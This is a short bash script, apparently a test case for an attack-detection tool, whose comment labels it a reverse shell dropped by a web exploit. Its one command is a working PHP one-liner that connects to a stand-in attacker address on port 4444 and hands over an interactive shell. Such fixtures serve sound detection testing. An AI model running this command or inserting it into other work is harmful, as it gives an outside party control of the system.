#!/bin/bash
# shrike-test-attack: reverse-shell: php fsockopen shell dropped by a web exploit
php -r '$sock=fsockopen("192.0.2.200",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
